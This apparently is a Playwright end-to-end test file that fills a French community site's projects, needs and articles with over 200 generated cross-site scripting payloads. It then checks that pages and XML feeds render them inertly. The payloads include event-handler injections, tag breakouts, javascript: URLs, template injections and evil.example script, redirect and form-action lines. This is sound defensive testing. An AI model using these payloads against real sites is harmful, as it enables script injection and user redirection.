import type { Page } from "playwright/test";
import { creerBesoinLivre, faireRepondre } from "#e2e/fixtures/bilans";
import {
	creerArticle,
	creerBesoin,
	creerEtape,
	creerPlace,
	creerProjet,
	creerTheme,
} from "#e2e/fixtures/contenu";
import type { Base } from "#e2e/fixtures/database";
import { enAnglais } from "#e2e/fixtures/lecture";
import { expect, test } from "#e2e/fixtures/site";
import { faireRaconter } from "#e2e/fixtures/situations";

const ACT = "window.__pris=1";

/** Ways to make a page run code: markup, addresses, delimiters of what surrounds the text. */
const CHARGES: readonly string[] = [
	...[
		...["img", "svg", "body", "video", "audio", "iframe", "input", "details"],
		...["object", "embed", "marquee"],
	].flatMap((nom) =>
		["onerror", "onload", "onfocus", "ontoggle", "onpointerenter"].flatMap(
			(acte) => [
				`<${nom} src=x ${acte}=${ACT}>`,
				`"><${nom} autofocus open ${acte}="${ACT}">`,
				`'><${nom}/src/${acte}='${ACT}'>`,
			],
		),
	),
	...["</script>", "</title>", "</textarea>", "</style>", "-->", "]]>"].flatMap(
		(fin) => [
			`${fin}<script>${ACT}</script>`,
			`${fin}<script src=//evil.example/x.js></script>`,
		],
	),
	...["javascript", "JaVaScRiPt", "java\tscript", "data:text/html,", "vbscript"]
		.map((schema) => `${schema}:${ACT}`)
		.flatMap((adresse) => [
			adresse,
			`<a href="${adresse}">x</a>`,
			`[x](${adresse})`,
			`https://example.org/"onmouseover="${ACT}`,
		]),
	...[
		"{{constructor.constructor('%')()}}",
		"$" + "{%}",
		"<%= % %>",
		"#{%}",
	].map((modele) => modele.replace("%", ACT)),
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"<meta http-equiv=refresh content=0;url=//evil.example>",
	"<base href=//evil.example/>",
	"<form action=//evil.example><button>x</button></form>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<style>*{display:none}</style>",
	"<math><mtext></form><form><mglyph><style></math><img src=x onerror=1>",
	"<svg><animate onbegin=1 attributeName=x></svg>",
	"<noscript><p title='</noscript><img src=x onerror=1>'>",
	"\u2028<script>1</script>\u2029",
];

const CURIOSITES: readonly string[] = [
	`mot${"interminable".repeat(9)}`,
	"👩‍👩‍👧‍👦🏳️‍🌈 Z̸͎̾a̴͕͂l̵͇̈g̶͖̋o̷",
	"مشروع مشترك للجميع, then English",
	"פרויקט 123 (abc)",
	"＜ｓｃｒｉｐｔ＞",
	"%s %d %n \\u0000 $1 NULL",
];

const TEXTES = [...CHARGES, ...CURIOSITES];

function parts(count: number): string[][] {
	const size = Math.ceil(TEXTES.length / count);
	return Array.from({ length: count }, (_, at) =>
		TEXTES.slice(at * size, (at + 1) * size),
	);
}

/** The nth text, cut to the limit of a field. */
function nth(at: number, max: number): string {
	return [...(TEXTES[at % TEXTES.length] ?? "")].slice(0, max).join("");
}

const PAGES = 5;

/** What a page of hostile texts executed or requested, and how wide it is. */
async function stateOf(page: Page) {
	return page.evaluate(() => ({
		ran: "__pris" in window,
		width: document.documentElement.scrollWidth,
		// The site's own pages have none of these in their content.
		foreign: document.querySelectorAll(
			"main :is(img, iframe, video, audio, style, base, meta, math, object, embed)",
		).length,
		addresses: [...document.querySelectorAll("main a[href]")]
			.map((node) => node.getAttribute("href") ?? "")
			.filter((href) => !/^(?:https?:|mailto:|\/|#)/.test(href)),
	}));
}

/** A delivered need, into which another was merged: what the team and those who asked for it wrote of both. */
async function creerIssue(base: Base, rang: number): Promise<string> {
	const livre = await creerBesoinLivre(base, 60, {
		titre: nth(rang * 11, 140),
	});
	await faireRepondre(base, livre, ["oui", "oui", "non", "en_partie", "oui"]);
	await base.lignes(
		"UPDATE reponses_bilan SET phrase = $2, publique = true, relue = 'publiee' WHERE besoin_id = $1",
		[livre.id, nth(rang * 11 + 1, 200)],
	);
	await faireRaconter(base, livre, nth(rang * 11 + 5, 200));
	const reuni = await creerBesoin(base, { titre: nth(rang * 11 + 2, 140) });
	await base.lignes(
		"UPDATE besoins SET statut = 'fusionne', fusionne_dans_id = $2 WHERE id = $1",
		[reuni.id, livre.id],
	);
	await base.lignes(
		"INSERT INTO reunions (absorbe_id, garde_id, acte_id, raison_fr, raison_en) VALUES ($1, $2, $1, $3, $4)",
		[reuni.id, livre.id, nth(rang * 11 + 3, 200), nth(rang * 11 + 4, 200)],
	);
	return livre.slug;
}

const HARMLESS = { ran: false, width: 320, foreign: 0, addresses: [] };

test("hostile texts in every field are shown as texts: nothing runs, nothing external is requested, no layout breaks", async ({
	page,
	site,
}) => {
	expect(CHARGES.length).toBeGreaterThanOrEqual(200);
	const { base } = site;
	const chemins = [
		"/",
		"/projets?tri=recents",
		"/besoins?tri=recents",
		"/articles",
		"/aider",
	];
	for (const [rang, lignes] of parts(PAGES).entries()) {
		const description = lignes.join("\n").slice(0, 5000);
		const en = { nom: nth(rang + 90, 120), titre: nth(rang + 91, 140) };
		const theme = await creerTheme(base, { nom: nth(rang + 10, 60) });
		const projet = await creerProjet(base, {
			nom: nth(rang * 7, 120),
			accroche: nth(rang * 7 + 1, 200),
			description,
			porteur: nth(rang * 7 + 2, 160),
			territoire: nth(rang * 7 + 3, 120),
			usage_ia: description.slice(0, 2000),
			mots_habitants: [nth(rang + 20, 80), nth(rang + 30, 80)],
			mots_habitants_en: [nth(rang + 70, 80)],
			site_web: rang === 0 ? `javascript:${ACT}` : "pas une adresse",
			mis_en_avant: true,
			traductions: { en: { ...en, description } },
			themes: [theme.id],
		});
		const besoin = await creerBesoin(base, {
			titre: nth(rang * 7 + 4, 140),
			description,
			territoire: nth(rang * 7 + 5, 120),
			theme_id: theme.id,
			projet_id: projet.id,
			statut: "developpement",
			cahier: description,
			nb_soutiens: 0,
			depot: rang === 0 ? `javascript:${ACT}` : null,
			roles: ["code"],
		});
		await creerEtape(base, besoin.id, {
			numero: 1,
			jour: "2026-11-20",
			titre: nth(rang * 7 + 6, 140),
			texte: description,
		});
		const article = await creerArticle(base, {
			titre: nth(rang + 40, 140),
			resume: nth(rang + 50, 200),
			auteur: nth(rang + 60, 100),
			projets: [projet.id],
		});
		await creerPlace(base, besoin.id, {
			titre: nth(rang + 80, 80),
			texte: nth(rang + 81, 500),
			lieu: nth(rang + 82, 120),
		});
		chemins.push(
			`/projets/${projet.slug}`,
			`/besoins/${besoin.slug}`,
			`/besoins/${await creerIssue(base, rang)}`,
			`/articles/${article.slug}`,
		);
	}
	await page.setViewportSize({ width: 320, height: 640 });
	for (const [rang, fr] of chemins.entries()) {
		// Four kinds of pages come by turns: each is seen in both languages.
		const isFrench = (rang + Math.floor(rang / 4)) % 2 === 0;
		const chemin = isFrench ? fr : enAnglais(fr);
		const answer = await page.goto(chemin);
		expect(answer?.status(), chemin).toBe(200);
		expect(await stateOf(page), chemin).toEqual(HARMLESS);
	}
	await page.goto(chemins[5] ?? "");
	await expect(
		page.getByText("<img src=x onerror=window.__pris=1>").first(),
	).toBeVisible();
	for (const flux of ["projets", "besoins", "places", "articles"]) {
		const lu = await page.request.get(`/flux/${flux}.xml`);
		// A parser of XML, which forgives nothing.
		const faute = await page.evaluate(
			(xml) =>
				new DOMParser()
					.parseFromString(xml, "text/xml")
					.querySelector("parsererror")?.textContent ?? null,
			await lu.text(),
		);
		expect([flux, lu.status(), faute]).toEqual([flux, 200, null]);
	}
});

test("each hostile text as a name, a title, a place and the body that runs a project: the lists show them all", async ({
	page,
	site,
}) => {
	const { base } = site;
	const cut = (max: number, min = 0) =>
		TEXTES.map((_, at) => nth(at, max).padEnd(min, "."));
	await base.lignes(
		`INSERT INTO projets (slug, nom, accroche, description, porteur, territoire, statut, publie_le)
		 SELECT 'hostile-' || n, nom, accroche, repeat('a', 40), porteur, territoire, 'publie', now() + interval '1 hour'
		 FROM unnest($1::text[], $2::text[], $3::text[], $4::text[]) WITH ORDINALITY AS t(nom, accroche, porteur, territoire, n)`,
		[cut(120), cut(200, 20), cut(160), cut(120)],
	);
	await base.lignes(
		`INSERT INTO besoins (slug, titre, description, territoire, statut, publie_le)
		 SELECT 'hostile-' || n, titre, description, territoire, 'publie', now() + interval '1 hour'
		 FROM unnest($1::text[], $2::text[], $3::text[]) WITH ORDINALITY AS t(titre, description, territoire, n)`,
		[cut(140, 20), cut(200, 60), cut(120)],
	);
	await page.setViewportSize({ width: 320, height: 640 });
	for (const [list, start] of [
		["projets", "/projets?tri=recents"],
		["besoins", "/en/besoins?tri=recents"],
	] as const) {
		const seen = new Set<string>();
		for (let next: string | null = start; next && seen.size < TEXTES.length; ) {
			const answer = await page.goto(next);
			expect(answer?.status()).toBe(200);
			expect(await stateOf(page), next).toEqual(HARMLESS);
			const addresses = await page
				.locator(`main a[href*="/${list}/hostile-"]`)
				.evaluateAll((links) => links.map((link) => link.getAttribute("href")));
			for (const address of addresses) seen.add(address ?? "");
			next = await page
				.locator('main a[href*="apres="]')
				.last()
				.getAttribute("href");
		}
		expect(seen.size).toBe(TEXTES.length);
	}
});
